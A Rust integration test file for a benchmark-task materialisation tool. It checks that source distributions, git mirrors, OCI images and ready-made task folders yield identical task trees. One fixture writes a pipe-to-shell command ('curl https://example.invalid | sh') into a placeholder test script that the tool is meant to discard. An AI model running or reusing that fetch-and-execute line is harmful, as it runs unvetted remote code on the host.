//! Where clean trees come from: source distributions, git mirrors, images, and ready-made tasks all give the same tasks.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use ident::Digest;
use serde_json::{Value, json};

use crate::project::{Project, sandboxes_run};

const REPOSITORIES: [(&str, &str); 2] =
    [("slugs", "example__slugs.00000002"), ("tally", "example__tally.00000001")];

/// Runs the stages up to the task directories.
fn materialize(project: &Project) -> Value {
    for stage in [&["source", "pull", "--update"][..], &["plan"], &["materialize"]] {
        project.run(stage).with_code(0);
    }
    project.json("materialize.json")
}

/// Tree digests by task.
fn trees(document: &Value) -> BTreeMap<String, String> {
    let text = |value: &Value| value.as_str().expect("text").to_owned();
    let tasks = document["tasks"].as_array().expect("a list").iter();
    tasks.map(|task| (text(&task["task_id"]), text(&task["tree_digest"]))).collect()
}

/// Unpacks the project's own source distribution without its top directory.
fn unpack(project: &Project, name: &str, into: &Path) {
    std::fs::create_dir_all(into).unwrap();
    let archive = project.path(format!("sdists/{name}-1.0.tar.gz"));
    let status =
        Command::new("tar").arg("-xzf").arg(archive).arg("-C").arg(into).arg("--strip-components=1").status();
    assert!(status.unwrap().success());
}

#[test]
fn a_git_mirror_gives_the_same_tasks_as_the_source_distribution() {
    let project = Project::new();
    let expected = trees(&materialize(&project));
    assert_eq!(expected.len(), 3);
    for (name, repository) in REPOSITORIES {
        let checkout = project.path(format!("checkout-{name}"));
        unpack(&project, name, &checkout);
        let git = |arguments: &[&str]| {
            let status = Command::new("git")
                .args(["-c", "user.name=Somebody", "-c", "user.email=somebody@example.invalid"])
                .args(arguments)
                .current_dir(&checkout)
                .status();
            assert!(status.unwrap().success(), "git {arguments:?}");
        };
        git(&["init", "--quiet"]);
        git(&["add", "-A"]);
        git(&["commit", "--quiet", "-m", "Initial commit"]);
        // What is not committed is no part of the tree.
        std::fs::write(checkout.join("notes"), "mine").unwrap();
        let mirror = project.path(format!("mirrors/{repository}.git"));
        git(&["clone", "--quiet", "--bare", ".", mirror.to_str().unwrap()]);
    }
    project.edit("seatrial.toml", "workspace = \"sdist\"", "workspace = \"git\"");
    project.edit("seatrial.toml", "from = \"sdists\"", "from = \"mirrors\"");
    let document = materialize(&project);
    assert_eq!(trees(&document), expected);
    assert!(document["tasks"][0]["workspace_source"].as_str().unwrap().starts_with("git:"));

    std::fs::remove_dir_all(project.path("mirrors/example__tally.00000001.git")).unwrap();
    let document = materialize(&project);
    let refused = document["refused"].as_array().unwrap();
    assert_eq!(refused.len(), 2);
    assert!(refused.iter().all(|task| task["reason"] == "workspace_missing"), "{refused:?}");
}

#[test]
fn ready_made_tasks_are_written_anew() {
    let project = Project::new();
    let expected = trees(&materialize(&project));
    for row in project.rows("instances.jsonl") {
        let task = project.path("ready").join(row["instance_id"].as_str().unwrap());
        for part in ["environment", "solution", "tests"] {
            std::fs::create_dir_all(task.join(part)).unwrap();
        }
        // Only the row and the instruction are taken over: the rest would not even work.
        std::fs::write(task.join("task.toml"), "version = \"1.0\"\n").unwrap();
        std::fs::write(task.join("instruction.md"), row["problem_statement"].as_str().unwrap()).unwrap();
        std::fs::write(task.join("environment/Dockerfile"), "FROM example/none\nRUN git fetch\n").unwrap();
        std::fs::write(task.join("solution/solve.sh"), "exit 1\n").unwrap();
        std::fs::write(task.join("tests/test.sh"), "curl https://example.invalid | sh\n").unwrap();
        std::fs::write(task.join("tests/config.json"), row.to_string()).unwrap();
    }
    project.edit(
        "seatrial.toml",
        "kind = \"file\"\npath = \"instances.jsonl\"\nas = \"instances\"",
        "kind = \"dir\"\npath = \"ready\"\nas = \"tasks\"",
    );
    assert_eq!(trees(&materialize(&project)), expected);
    // Under another name than its row's id a directory would be two tasks.
    let id = project.rows("instances.jsonl")[0]["instance_id"].as_str().unwrap().to_owned();
    std::fs::rename(project.path("ready").join(&id), project.path("ready/other.00000001.x")).unwrap();
    project.run(&["source", "pull", "--update"]).with_code(0);
    let said = project.run(&["plan"]).with_code(2).stderr;
    assert!(said.contains(&format!("ready/other.00000001.x holds the instance `{id}`")), "{said}");
}

#[test]
fn a_tree_is_taken_out_of_an_image() {
    if !sandboxes_run() {
        return;
    }
    let project = Project::new();
    let mut rows = project.rows("instances.jsonl");
    for row in &mut rows {
        let name = if row["repo"].as_str().unwrap().contains("slugs") { "slugs" } else { "tally" };
        row["image_name"] = json!(format!("example/{name}:1"));
    }
    project.write_rows("instances.jsonl", &rows);
    for (name, _) in REPOSITORIES {
        unpack(&project, name, &project.path(format!("root-{name}/testbed")));
    }
    layout(&project);
    let recipe = String::from_utf8(project.read("seatrial.toml")).unwrap();
    let lines: Vec<&str> =
        recipe.lines().filter(|line| !line.starts_with("base =") && !line.starts_with("from =")).collect();
    let recipe = lines
        .join("\n")
        .replace("workspace = \"sdist\"", "layout = \"images\"\nworkspace = \"image:/testbed\"");
    std::fs::write(project.path("seatrial.toml"), recipe + "\n").unwrap();

    let document = materialize(&project);
    assert_eq!(document["refused"], json!([]));
    for task in document["tasks"].as_array().unwrap() {
        assert!(task["workspace_source"].as_str().unwrap().starts_with("image:sha256:"), "{task}");
        let directory = project.path("tasks").join(task["task_id"].as_str().unwrap());
        let dockerfile = std::fs::read_to_string(directory.join("environment/Dockerfile")).unwrap();
        assert!(
            dockerfile.starts_with(&format!("FROM {}\n", task["base_image"].as_str().unwrap())),
            "{dockerfile}"
        );
        // The image holds the clean tree with the hidden tests: they have to go before the workspace comes.
        assert!(dockerfile.contains("tests/test_"), "{dockerfile}");
        let listed =
            Command::new("tar").arg("-tf").arg(directory.join("environment/workspace.tar")).output().unwrap();
        let listed = String::from_utf8(listed.stdout).unwrap();
        assert!(
            listed.contains(".git/HEAD") && (listed.contains("tally.py") || listed.contains("slugs.py")),
            "{listed}"
        );
    }
}

/// Writes an OCI layout directory `images` with one image of one layer for each root directory.
fn layout(project: &Project) {
    let blobs = project.path("images/blobs/sha256");
    std::fs::create_dir_all(&blobs).unwrap();
    let blob = |bytes: &[u8], kind: &str| {
        let digest = Digest::of(bytes);
        std::fs::write(blobs.join(digest.hex()), bytes).unwrap();
        json!({"mediaType": kind, "digest": digest.prefixed(), "size": bytes.len()})
    };
    let mut manifests = Vec::new();
    for (name, _) in REPOSITORIES {
        let root = project.path(format!("root-{name}"));
        let layer = Command::new("tar")
            .arg("-cf")
            .arg("-")
            .arg("-C")
            .arg(&root)
            .arg("testbed")
            .output()
            .unwrap()
            .stdout;
        let diff = Digest::of(&layer).prefixed();
        let architecture = if cfg!(target_arch = "aarch64") { "arm64" } else { "amd64" };
        let config = json!({
            "os": "linux",
            "architecture": architecture,
            "config": {},
            "rootfs": {"type": "layers", "diff_ids": [diff]},
        });
        let manifest = json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": blob(config.to_string().as_bytes(), "application/vnd.oci.image.config.v1+json"),
            "layers": [blob(&layer, "application/vnd.oci.image.layer.v1.tar")],
        });
        let mut entry = blob(manifest.to_string().as_bytes(), "application/vnd.oci.image.manifest.v1+json");
        entry["annotations"] = json!({"org.opencontainers.image.ref.name": format!("example/{name}:1")});
        manifests.push(entry);
    }
    std::fs::write(project.path("images/oci-layout"), json!({"imageLayoutVersion": "1.0.0"}).to_string())
        .unwrap();
    let index = json!({"schemaVersion": 2, "manifests": manifests});
    std::fs::write(project.path("images/index.json"), index.to_string()).unwrap();
}
